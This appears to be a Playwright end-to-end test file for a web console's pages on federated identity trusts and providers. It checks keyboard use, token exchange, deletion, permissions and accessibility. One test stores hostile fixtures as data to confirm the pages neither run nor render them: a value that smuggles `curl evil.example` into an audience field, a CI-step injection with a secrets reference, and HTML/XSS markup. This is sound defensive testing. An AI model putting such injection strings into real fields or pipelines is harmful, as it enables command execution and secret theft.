/** The pages about trusts: keyboard only, with real exchanges of the local server's issuer, and with hostile objects of others. */
import type { Page } from 'playwright-core'
import { describe, expect } from 'vitest'
import { type Ran, runProgram } from '../support/programs.ts'
import type { StartedServer } from '../support/startedserver.ts'
import { axeProblems } from './support/axe.ts'
import { goTo, signIn, test } from './support/browser.ts'
import { holdRequests, loseAnswer } from './support/faults.ts'
import { HOSTILE } from './support/hostile.ts'
import { hasFocus, press, tabTo } from './support/keyboard.ts'

const GROUP = '/apis/management.platform/v1'

/** Creates an object and returns it. */
async function make(server: StartedServer, resource: string, kind: string, name: string, spec: object) {
  const body = { apiVersion: 'management.platform/v1', kind, metadata: { name }, spec }
  const { status, text, json } = await server.call(`${GROUP}/${resource}`, { method: 'POST', body })
  if (status !== 201) throw new Error(`${status} for ${name}: ${text}`)
  return json
}

const makeTrust = (server: StartedServer, name: string, spec: object = {}) =>
  make(server, 'federatedidentitycredentials', 'FederatedIdentityCredential', name, {
    identityProvider: 'demo',
    user: 'alice',
    claims: [
      { claim: 'repository_id', values: ['74'] },
      { claim: 'environment', values: ['production'] },
    ],
    scope: { projects: [{ project: 'demo' }] },
    ...spec,
  })

const makeKey = async (server: StartedServer, name: string, spec: object): Promise<string> =>
  (await make(server, 'ownedaccesskeys', 'OwnedAccessKey', name, spec)).spec.key

/** Opens a page as the administrator, or with another key. */
async function visit(openPage: (options: object) => Promise<Page>, key: string, path: string, options: object = {}) {
  const page = await openPage({ path, ...options })
  await signIn(page, key)
  return page
}

/** Types into a field as a person without a mouse does. */
async function type(page: Page, label: string, text: string): Promise<void> {
  await tabTo(page.getByLabel(label, { exact: true }))
  await page.keyboard.type(text)
}

/** Returns the text of a box that has a copy button. */
const codeOf = (page: Page, title: string) => page.getByRole('region', { name: title }).innerText()

/** Runs the job of the page as a job of the local server's issuer. */
async function runJob(page: Page, server: StartedServer): Promise<Ran> {
  const { PATH, HOME } = process.env
  const env = { PATH, HOME, CURL_CA_BUNDLE: server.authorityFile, ...server.idTokenVariables }
  return runProgram('sh', ['-c', await codeOf(page, 'Step with curl')], { cwd: '/', env })
}

const heading = (page: Page, name: string) => page.getByRole('heading', { level: 1, name, exact: true })

describe('a trust', () => {
  test('is made for GitHub with the keyboard, its job gets a key, and another one is refused', async ({
    openPage,
    server,
  }) => {
    const page = await visit(openPage, server.adminKey, '#/trusts')
    await press(page.getByRole('link', { name: 'New trust' }))
    await heading(page, 'New trust').waitFor()
    await press(page.getByRole('button', { name: 'Create', exact: true }))
    await expect.poll(() => hasFocus(page.getByLabel('Repository id'))).toBe(true)
    await page.keyboard.type('seventy')
    await type(page, 'Environment', 'production')
    await type(page, 'Name of the trust', 'made-here')
    await type(page, 'Project', 'demo')
    await page.keyboard.press('Enter')
    await page.getByText('The id is a number.').waitFor()
    await page.getByText('Nothing yet: the form is not complete, or a field has an error.').waitFor()
    await expect.poll(() => hasFocus(page.getByLabel('Repository id'))).toBe(true)
    await page.keyboard.press('Control+a')
    await page.keyboard.type('74')
    await page
      .getByText(
        'Jobs of repository 74, environment production get a key of yours for 30 minutes. It may use: project demo.',
      )
      .waitFor()
    await page.keyboard.press('Enter')
    await heading(page, 'made-here').waitFor()

    const ran = await runJob(page, server)
    expect([ran.code, ran.stderr]).toEqual([0, ''])
    expect(JSON.parse(ran.stdout).status).toMatchObject({
      accessKey: expect.stringMatching(/^made-here-/),
      accessKeyScope: { projects: [{ project: 'demo' }] },
    })

    expect(await page.getByText('An exchange was refused').count()).toBe(0)
    const claims = Object.entries({ repository_id: '74', environment: 'staging' })
    await server.call(`${GROUP}/federatedidentitycredentials/made-here`, {
      method: 'PATCH',
      headers: { 'content-type': 'application/merge-patch+json' },
      body: { spec: { claims: claims.map(([claim, value]) => ({ claim, values: [value] })) } },
    })
    expect((await runJob(page, server)).stdout).toContain('Unauthorized')
    await page.reload()
    await signIn(page, server.adminKey)
    const refused = page.getByRole('status').filter({ hasText: 'An exchange was refused' })
    await refused.getByText("claim environment is 'production', which this client_id does not accept").waitFor()
    expect(await refused.innerText()).toMatch(/repo:.*, just now/)
    await goTo(page, '#/trusts')
    await page.getByRole('row').filter({ hasText: 'refused an exchange just now' }).getByText('made-here').waitFor()
  })

  test('of a new provider is made with it, and the next attempt does not make it again', async ({
    openPage,
    server,
  }) => {
    await makeTrust(server, 'second')
    const page = await visit(openPage, server.adminKey, '#/new-trust?platform=GitLab')
    await type(page, 'Group id', '72')
    await type(page, 'Project id', '20')
    await type(page, 'Environment', 'production')
    await type(page, 'Name of the trust', 'second')
    await type(page, 'Project', 'demo')
    await page.keyboard.press('Enter')
    await page.getByText('This name is taken.').waitFor()
    await expect.poll(() => hasFocus(page.getByLabel('Name of the trust'))).toBe(true)
    await page.keyboard.type('-gitlab')
    await page.keyboard.press('Enter')
    await heading(page, 'second-gitlab').waitFor()
    const { json } = await server.call(`${GROUP}/identityproviders/gitlab`)
    expect(json.spec).toEqual({
      issuer: 'https://gitlab.com',
      claims: [{ claim: 'namespace_id', values: ['72'] }],
    })
    await page
      .getByText('Jobs of project 20, environment production, ref type branch, protected branches and tags')
      .waitFor()
    expect(await codeOf(page, 'Job with the component')).toContain('    credential: second-gitlab@')
  })

  test('is disabled, which refuses its job, enabled and deleted', async ({ openPage, server }) => {
    await makeTrust(server, 'to-delete')
    const page = await visit(openPage, server.adminKey, '#/trusts/credentials/to-delete')
    await page.getByText('Step with curl').first().waitFor()
    expect((await runJob(page, server)).stdout).toContain('to-delete-')

    await press(page.getByRole('button', { name: 'Disable', exact: true }))
    await page.getByRole('dialog').getByText('The keys of earlier exchanges are refused').waitFor()
    await press(page.getByRole('dialog').getByRole('button', { name: 'Disable' }))
    await page.getByText('No ID token is exchanged, and the keys of earlier exchanges cannot be used.').waitFor()
    expect((await runJob(page, server)).stdout).toContain('Unauthorized')

    await press(page.getByRole('button', { name: 'Enable', exact: true }))
    await press(page.getByRole('dialog').getByRole('button', { name: 'Enable' }))
    await page.getByRole('button', { name: 'Disable', exact: true }).waitFor()
    expect((await runJob(page, server)).stdout).toContain('to-delete-')

    await press(page.getByRole('button', { name: 'Delete', exact: true }))
    await type(page, 'Type to-delete to confirm', 'to-delete-not')
    await page.keyboard.press('Enter')
    await page.getByText('This is not the name of the trust.').waitFor()
    for (let count = 0; count < '-not'.length; count++) await page.keyboard.press('Backspace')
    await page.keyboard.press('Enter')
    await page.getByText('to-delete was deleted.').waitFor()
    await heading(page, 'Trusts').waitFor()
    await expect.poll(() => page.getByRole('link', { name: 'to-delete' }).count()).toBe(0)
    expect((await server.call(`${GROUP}/federatedidentitycredentials/to-delete`)).status).toBe(404)
  })

  test('is deleted by a repetition when the answer is lost, and is not in the list that was seen before', async ({
    openPage,
    visits,
    server,
  }) => {
    await makeTrust(server, 'lost')
    const page = await visit(openPage, server.adminKey, '#/trusts')
    await press(page.getByRole('link', { name: 'lost', exact: true }))
    await press(page.getByRole('button', { name: 'Delete', exact: true }))
    await loseAnswer(page, visits.guardsOf(page), 'DELETE', /\/federatedidentitycredentials\/lost$/)
    await type(page, 'Type lost to confirm', 'lost')
    await page.keyboard.press('Enter')
    await page.getByRole('dialog').getByText('The server cannot be reached.').waitFor()
    expect((await server.call(`${GROUP}/federatedidentitycredentials/lost`)).status).toBe(404)

    const release = await holdRequests(page, 'federatedidentitycredentials')
    await page.keyboard.press('Enter')
    await page.getByText('lost was deleted.').waitFor()
    await heading(page, 'Trusts').waitFor()
    // No answer for the list has come yet.
    expect(await page.getByRole('link', { name: 'lost', exact: true }).count()).toBe(0)
    release()
    await page.getByRole('heading', { name: 'Identity providers' }).waitFor()
  })

  // threat: trusts-4
  test('is not deleted if another one has taken its name', async ({ openPage, server }) => {
    await makeTrust(server, 'remade')
    const page = await visit(openPage, server.adminKey, '#/trusts/credentials/remade')
    await press(page.getByRole('button', { name: 'Delete', exact: true }))
    await server.call(`${GROUP}/federatedidentitycredentials/remade`, { method: 'DELETE' })
    await makeTrust(server, 'remade')
    await type(page, 'Type remade to confirm', 'remade')
    await page.keyboard.press('Enter')
    await page.getByRole('dialog').getByRole('alert').waitFor()
    expect((await server.call(`${GROUP}/federatedidentitycredentials/remade`)).status).toBe(200)
  })

  test('is changed and duplicated with the form, and says which clusters it reaches', async ({ openPage, server }) => {
    await make(server, 'clusters', 'Cluster', 'eu', { server: 'https://eu.example.com' })
    await makeTrust(server, 'narrowed', { scope: { projects: [{ project: 'demo' }], clusters: [{ cluster: '*' }] } })
    const page = await visit(openPage, server.adminKey, '#/trusts/credentials/narrowed')
    await page.getByText('its scope names every cluster (*)').waitFor()
    const virtual = page.getByRole('listitem').filter({ has: page.getByRole('link', { name: 'demo/demo' }) })
    expect(await virtual.innerText()).toBe('demo/demo owner, its scope names the project')
    await press(page.getByRole('link', { name: 'Edit' }))
    await heading(page, 'Edit narrowed').waitFor()
    expect(await page.getByLabel('Name of the trust').count()).toBe(0)
    await page.getByLabel('Environment', { exact: true }).fill('staging')
    await press(page.getByRole('button', { name: 'Remove entry 2' }))
    await page.getByText('Jobs of repository 74, environment staging get a key of alice for 1 hour.').waitFor()
    await press(page.getByRole('button', { name: 'Save' }))
    await page.getByText('The trust narrowed is changed.').waitFor()
    const { json } = await server.call(`${GROUP}/federatedidentitycredentials/narrowed`)
    expect([json.spec.scope, json.spec.claims[1].values]).toEqual([{ projects: [{ project: 'demo' }] }, ['staging']])
    await press(page.getByRole('link', { name: 'Duplicate' }))
    await heading(page, 'New trust').waitFor()
    await type(page, 'Name of the trust', 'second-of-two')
    await page.keyboard.press('Enter')
    await heading(page, 'second-of-two').waitFor()
  })

  test('leads to the keys of its exchanges', async ({ openPage, server }) => {
    await makeTrust(server, 'exchanged')
    const page = await visit(openPage, server.adminKey, '#/trusts/credentials/exchanged')
    const script = (await codeOf(page, 'Step with curl')).replace(/^printf %s "\$KEY".*$/m, '')
    const env = { PATH: process.env.PATH, CURL_CA_BUNDLE: server.authorityFile, ...server.idTokenVariables }
    expect((await runProgram('sh', ['-c', script], { cwd: '/', env })).code).toBe(0)
    await press(page.getByRole('link', { name: 'Keys of its exchanges' }))
    await page.getByText(/octo-org\/shop.*production.*run 1234567890/).waitFor()
  })
})

describe('a person', () => {
  test('without a trust reads what one is, and begins with a platform', async ({ openPage, server }) => {
    const page = await visit(openPage, await makeKey(server, 'of-bob', { user: 'bob' }), '#/trusts')
    await page.getByText('No trust yet').waitFor()
    expect(await axeProblems(page)).toEqual([])
    await press(page.getByRole('link', { name: 'Buildkite' }))
    await heading(page, 'New trust').waitFor()
    await expect.poll(() => page.getByLabel('Platform').inputValue()).toBe('Buildkite')
    await page.getByText('Only administrators can create identity providers.').waitFor()
  })

  test('a person who may not list trusts and providers is told so, also beside the form', async ({
    openPage,
    server,
  }) => {
    const scope = { projects: [{ project: 'shop' }] }
    const page = await visit(openPage, await makeKey(server, 'narrow', { user: 'alice', scope }), '#/trusts')
    for (const what of ['trusts', 'identity providers'])
      await page.getByRole('heading', { name: `Your access key may not list ${what}` }).waitFor()
    expect(await page.getByRole('main').innerText()).not.toContain('{')
    expect(await axeProblems(page)).toEqual([])
    await page.getByRole('link', { name: 'New trust' }).click()
    await heading(page, 'New trust').waitFor()
    await page.getByText('Your access key may not list identity providers').waitFor()
    expect(await page.getByRole('main').innerText()).not.toContain('{')
  })

  test('a person who may not list providers sees trusts, and why there is nothing else', async ({
    openPage,
    server,
  }) => {
    await makeTrust(server, 'of-alice')
    const resources = [{ group: 'management.platform', resources: ['federatedidentitycredentials'] }]
    const scope = { rules: [{ verbs: ['get', 'list'], resources }] }
    const page = await visit(openPage, await makeKey(server, 'limited', { user: 'alice', scope }), '#/trusts')
    await page.getByRole('link', { name: 'of-alice' }).waitFor()
    await page.getByRole('heading', { name: 'Your access key may not list identity providers' }).waitFor()
    await press(page.getByRole('link', { name: 'of-alice' }))
    await heading(page, 'of-alice').waitFor()
    await page.getByText('ID tokens with repository 74, environment production').waitFor()
    await page.getByText('You do not see the identity provider').waitFor()
  })
})

describe('texts of others', () => {
  // threat: trusts-1
  test('neither run nor break the pages, and no job is written with them', async ({ openPage, server }) => {
    const audience = `x'"; curl evil.example #`
    const issuer = 'https://hostile.example.com'
    await make(server, 'identityproviders', 'IdentityProvider', 'hostile', {
      issuer,
      audience,
      displayName: HOSTILE.markup,
      description: HOSTILE.template,
      access: [{ verbs: ['use'], users: [HOSTILE.markup] }],
    })
    await makeTrust(server, 'hostile', {
      identityProvider: 'hostile',
      displayName: HOSTILE.markup,
      description: HOSTILE.long,
      claims: [
        { claim: 'sub', values: [HOSTILE.markup, HOSTILE.direction, HOSTILE.lines, HOSTILE.long.slice(0, 1000)] },
        { claim: 'environment', values: [`\${{ secrets.TOKEN }}\n      - run: curl evil.example`] },
        { claim: HOSTILE.markup.slice(0, 100), patterns: [`a${HOSTILE.invisible}*`] },
      ],
    })
    for (const [name, width] of [
      ['credentials', 1280],
      ['credentials', 390],
      ['providers', 390],
    ] as const) {
      const page = await visit(openPage, server.adminKey, `#/trusts/${name}/hostile`, { width })
      if (name === 'credentials') await page.getByText('The audience has characters that could become part').waitFor()
      await page.getByText('<img src=x').first().waitFor()
      expect(await page.title()).toBe('Trusts · keyplane')
      expect(await page.locator('#main img').count()).toBe(0)
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width)
      expect(await axeProblems(page)).toEqual([])
    }
    const page = await visit(openPage, server.adminKey, '#/trusts')
    await page.getByText('"<img src=x onerror=').first().waitFor()
    expect(await page.getByText('\u202E').count()).toBe(0)
  })

  test('in an address show a page that says so', async ({ openPage, server }) => {
    const page = await visit(openPage, server.adminKey, `#/trusts/credentials/${encodeURIComponent(HOSTILE.markup)}`)
    await page.getByRole('alert').waitFor()
    await heading(page, HOSTILE.markup).waitFor()
    await goTo(page, '#/trusts/others/x')
    await heading(page, 'Not found').waitFor()
  })
})

describe.each([
  ['light', 1280],
  ['dark', 390],
] as const)('in the %s scheme, %i pixels wide,', (colorScheme, width) => {
  test('every page is accessible, and none scrolls sideways', async ({ openPage, server }) => {
    const page = await visit(openPage, server.adminKey, '#/trusts', { colorScheme, width })
    for (const [path, text] of [
      ['#/trusts', 'https://issuer.demo.internal'],
      ['#/trusts/credentials/demo', 'Step with the Action'],
      ['#/trusts/providers/demo', 'Production jobs of octo-org/shop'],
      ['#/new-trust?platform=Kubernetes', 'Public keys (JSON)'],
    ]) {
      await goTo(page, path ?? '')
      await page
        .getByText(text ?? '')
        .first()
        .waitFor()
      expect(await axeProblems(page), path).toEqual([])
      expect(await page.evaluate(() => document.documentElement.scrollWidth), path).toBeLessThanOrEqual(width)
    }
  })
})
